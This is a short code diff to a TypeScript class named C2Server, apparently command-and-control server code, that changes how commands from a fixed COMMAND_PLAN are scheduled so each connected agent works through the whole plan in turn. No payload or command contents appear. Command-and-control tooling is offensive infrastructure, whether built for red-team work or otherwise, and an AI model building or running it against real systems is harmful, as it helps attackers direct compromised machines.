@@ -99,7 +99,6 @@ export class C2Server {
   private readonly byRoute = new Map<string, string>();
   private readonly pending = new Map<string, Pending>();
   private readonly serverSecret: Uint8Array;
-  private planStep = 0;
   private nextAgent = 0;
   private rebinding = false;
   endpoint = "";
@@ -363,7 +362,8 @@ export class C2Server {
     const agents = [...this.agents.values()];
     if (agents.length === 0 || !this.socket || this.rebinding) return;
     const agent = agents[this.nextAgent++ % agents.length] as Agent;
-    const step = COMMAND_PLAN[this.planStep++ % COMMAND_PLAN.length] as (typeof COMMAND_PLAN)[number];
+    // Each agent goes through the whole plan, in turn with the others.
+    const step = COMMAND_PLAN[agent.sent % COMMAND_PLAN.length] as (typeof COMMAND_PLAN)[number];
     this.sendCommand(agent, step.command, step.args);
   }
 
